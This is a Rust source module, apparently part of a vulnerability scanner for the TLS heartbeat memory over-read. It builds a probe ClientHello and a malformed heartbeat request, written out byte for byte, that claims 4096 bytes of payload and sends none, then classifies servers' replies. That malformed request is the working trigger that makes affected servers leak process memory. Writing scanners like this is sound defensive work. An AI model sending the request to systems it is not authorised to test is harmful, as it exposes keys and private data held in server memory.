//! Probe codec.
//!
//! Builds the two records a probe sends and classifies whatever comes back.
//! Everything here is pure: no I/O, no clocks, byte-for-byte reproducible.
//!
//! ## Trigger
//!
//! The heartbeat request declares a payload of [`DECLARED_PAYLOAD_LEN`]
//! bytes but carries [`SENT_PAYLOAD_LEN`]. A correct peer discards the
//! request or echoes only what it actually received. An affected peer
//! echoes the declared length, copying adjacent process memory into the
//! response.

use super::errors::CodecError;
use super::record::{ContentType, RecordHeader, Records};
use super::value_objects::{Classification, TlsVersion};

// =============================================================================
// CONSTANTS
// =============================================================================

/// Heartbeat message type for a request.
pub const HEARTBEAT_REQUEST: u8 = 0x01;

/// Heartbeat message type for a response.
pub const HEARTBEAT_RESPONSE: u8 = 0x02;

/// Payload bytes actually carried by the malformed request.
pub const SENT_PAYLOAD_LEN: usize = 0;

/// Payload length the malformed request claims to carry.
pub const DECLARED_PAYLOAD_LEN: u16 = 0x1000;

/// Fixed bytes around a heartbeat payload: type (1), length (2), padding (16).
pub const HEARTBEAT_OVERHEAD: usize = 1 + 2 + 16;

/// Handshake message type of ServerHelloDone.
pub const SERVER_HELLO_DONE: u8 = 0x0e;

/// Handshake body of the probe ClientHello.
///
/// Client version `03 02`, a fixed random, no session id, 51 cipher
/// suites, null compression, and four extensions: ec_point_formats,
/// elliptic_curves, session_ticket and heartbeat (`00 0f`, mode
/// peer_allowed_to_send). Only the record-layer version differs between
/// probe versions.
pub const CLIENT_HELLO_BODY: [u8; 220] = [
    0x01, 0x00, 0x00, 0xd8, 0x03, 0x02, 0x53, 0x43, 0x5b, 0x90, 0x9d, 0x9b, //
    0x72, 0x0b, 0xbc, 0x0c, 0xbc, 0x2b, 0x92, 0xa8, 0x48, 0x97, 0xcf, 0xbd, //
    0x39, 0x04, 0xcc, 0x16, 0x0a, 0x85, 0x03, 0x90, 0x9f, 0x77, 0x04, 0x33, //
    0xd4, 0xde, 0x00, 0x00, 0x66, 0xc0, 0x14, 0xc0, 0x0a, 0xc0, 0x22, 0xc0, //
    0x21, 0x00, 0x39, 0x00, 0x38, 0x00, 0x88, 0x00, 0x87, 0xc0, 0x0f, 0xc0, //
    0x05, 0x00, 0x35, 0x00, 0x84, 0xc0, 0x12, 0xc0, 0x08, 0xc0, 0x1c, 0xc0, //
    0x1b, 0x00, 0x16, 0x00, 0x13, 0xc0, 0x0d, 0xc0, 0x03, 0x00, 0x0a, 0xc0, //
    0x13, 0xc0, 0x09, 0xc0, 0x1f, 0xc0, 0x1e, 0x00, 0x33, 0x00, 0x32, 0x00, //
    0x9a, 0x00, 0x99, 0x00, 0x45, 0x00, 0x44, 0xc0, 0x0e, 0xc0, 0x04, 0x00, //
    0x2f, 0x00, 0x96, 0x00, 0x41, 0xc0, 0x11, 0xc0, 0x07, 0xc0, 0x0c, 0xc0, //
    0x02, 0x00, 0x05, 0x00, 0x04, 0x00, 0x15, 0x00, 0x12, 0x00, 0x09, 0x00, //
    0x14, 0x00, 0x11, 0x00, 0x08, 0x00, 0x06, 0x00, 0x03, 0x00, 0xff, 0x01, //
    0x00, 0x00, 0x49, 0x00, 0x0b, 0x00, 0x04, 0x03, 0x00, 0x01, 0x02, 0x00, //
    0x0a, 0x00, 0x34, 0x00, 0x32, 0x00, 0x0e, 0x00, 0x0d, 0x00, 0x19, 0x00, //
    0x0b, 0x00, 0x0c, 0x00, 0x18, 0x00, 0x09, 0x00, 0x0a, 0x00, 0x16, 0x00, //
    0x17, 0x00, 0x08, 0x00, 0x06, 0x00, 0x07, 0x00, 0x14, 0x00, 0x15, 0x00, //
    0x04, 0x00, 0x05, 0x00, 0x12, 0x00, 0x13, 0x00, 0x01, 0x00, 0x02, 0x00, //
    0x03, 0x00, 0x0f, 0x00, 0x10, 0x00, 0x11, 0x00, 0x23, 0x00, 0x00, 0x00, //
    0x0f, 0x00, 0x01, 0x01,
];

// =============================================================================
// BUILDERS
// =============================================================================

/// Build the ClientHello record for `version`.
///
/// Output is `16 <major> <minor> 00 dc` followed by [`CLIENT_HELLO_BODY`].
pub fn build_client_hello(version: TlsVersion) -> Vec<u8> {
    let header = RecordHeader {
        content_type: ContentType::Handshake,
        version: version.record_bytes(),
        length: CLIENT_HELLO_BODY.len() as u16,
    };

    let mut out = Vec::with_capacity(5 + CLIENT_HELLO_BODY.len());
    out.extend_from_slice(&header.encode());
    out.extend_from_slice(&CLIENT_HELLO_BODY);
    out
}

/// A heartbeat request record.
///
/// `declared_payload_length` is written verbatim; it is not checked against
/// `payload`, which is what lets the codec express the malformed trigger.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HeartbeatRequest {
    pub version: TlsVersion,
    pub declared_payload_length: u16,
    pub payload: Vec<u8>,
}

impl HeartbeatRequest {
    /// The malformed request: declares [`DECLARED_PAYLOAD_LEN`], sends nothing.
    pub fn malformed(version: TlsVersion) -> Self {
        Self {
            version,
            declared_payload_length: DECLARED_PAYLOAD_LEN,
            payload: Vec::new(),
        }
    }

    /// Encode as a heartbeat record. No padding is appended.
    pub fn encode(&self) -> Result<Vec<u8>, CodecError> {
        let body_len = 3 + self.payload.len();
        let length = u16::try_from(body_len).map_err(|_| CodecError::RecordTooLarge {
            length: body_len,
            max: usize::from(u16::MAX),
        })?;

        let header = RecordHeader {
            content_type: ContentType::Heartbeat,
            version: self.version.record_bytes(),
            length,
        };

        let mut out = Vec::with_capacity(5 + body_len);
        out.extend_from_slice(&header.encode());
        out.push(HEARTBEAT_REQUEST);
        out.extend_from_slice(&self.declared_payload_length.to_be_bytes());
        out.extend_from_slice(&self.payload);
        Ok(out)
    }
}

/// Build the malformed heartbeat record for `version`.
///
/// Always `18 <major> <minor> 00 03 01 10 00`.
pub fn build_malformed_heartbeat_request(version: TlsVersion) -> Vec<u8> {
    let [major, minor] = version.record_bytes();
    let [len_hi, len_lo] = DECLARED_PAYLOAD_LEN.to_be_bytes();
    vec![
        ContentType::Heartbeat as u8,
        major,
        minor,
        0x00,
        0x03,
        HEARTBEAT_REQUEST,
        len_hi,
        len_lo,
    ]
}

// =============================================================================
// RESPONSE SCANNING
// =============================================================================

/// What a receive buffer says so far.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResponseScan {
    /// A heartbeat record larger than anything a correct echo could produce.
    Leaked { body_len: usize },
    /// A heartbeat record no larger than a correct echo.
    Echoed { body_len: usize },
    /// The peer sent an alert.
    Alert { level: Option<u8>, description: Option<u8> },
    /// Only handshake traffic (or nothing) so far.
    Incomplete,
}

impl ResponseScan {
    /// Whether reading can stop.
    pub fn is_terminal(&self) -> bool {
        !matches!(self, Self::Incomplete)
    }
}

/// Walk the records in `received` and report the first decisive one.
///
/// A heartbeat record leaks when its declared body exceeds
/// `sent_payload_len + HEARTBEAT_OVERHEAD`, or when its own payload length
/// field claims more than `sent_payload_len`. The declared length is used
/// so a leak is detected as soon as the header arrives.
pub fn scan_response(sent_payload_len: usize, received: &[u8]) -> Result<ResponseScan, CodecError> {
    for record in Records::new(received) {
        let record = record?;
        match record.header.content_type {
            ContentType::Heartbeat => {
                let body_len = usize::from(record.header.length);
                let echoed_len = (record.body.len() >= 3)
                    .then(|| usize::from(u16::from_be_bytes([record.body[1], record.body[2]])));

                let oversized = body_len > sent_payload_len + HEARTBEAT_OVERHEAD;
                let overclaimed = echoed_len.is_some_and(|len| len > sent_payload_len);

                return Ok(if oversized || overclaimed {
                    ResponseScan::Leaked { body_len }
                } else {
                    ResponseScan::Echoed { body_len }
                });
            }
            ContentType::Alert => {
                return Ok(ResponseScan::Alert {
                    level: record.body.first().copied(),
                    description: record.body.get(1).copied(),
                });
            }
            _ => {}
        }
    }
    Ok(ResponseScan::Incomplete)
}

/// Whether `received` contains a complete ServerHelloDone handshake message.
pub fn contains_server_hello_done(received: &[u8]) -> Result<bool, CodecError> {
    for record in Records::new(received) {
        let record = record?;
        if record.header.content_type != ContentType::Handshake {
            continue;
        }

        // Several handshake messages may share one record
        let mut rest = record.body;
        while rest.len() >= 4 {
            let msg_len = usize::from(rest[1]) << 16 | usize::from(rest[2]) << 8 | usize::from(rest[3]);
            if rest[0] == SERVER_HELLO_DONE {
                return Ok(true);
            }
            if rest.len() < 4 + msg_len {
                break;
            }
            rest = &rest[4 + msg_len..];
        }
    }
    Ok(false)
}

// =============================================================================
// CLASSIFICATION
// =============================================================================

/// Classify the bytes received while the connection is still open, or when
/// the read deadline passed.
///
/// No bytes, handshake-only traffic and unparseable traffic are all
/// inconclusive.
pub fn classify_heartbeat_response(sent_payload_len: usize, received: &[u8]) -> Classification {
    match scan_response(sent_payload_len, received) {
        Ok(ResponseScan::Leaked { .. }) => Classification::Vulnerable,
        Ok(ResponseScan::Echoed { .. }) | Ok(ResponseScan::Alert { .. }) => {
            Classification::NotVulnerable
        }
        Ok(ResponseScan::Incomplete) | Err(_) => Classification::Inconclusive,
    }
}

/// Classify the bytes received before the peer closed the connection.
///
/// Hanging up on the malformed request is the correct reaction, so a clean
/// close without a decisive record is not vulnerable. Garbage stays
/// inconclusive.
pub fn classify_closed_response(sent_payload_len: usize, received: &[u8]) -> Classification {
    match scan_response(sent_payload_len, received) {
        Ok(ResponseScan::Leaked { .. }) => Classification::Vulnerable,
        Ok(_) => Classification::NotVulnerable,
        Err(_) => Classification::Inconclusive,
    }
}
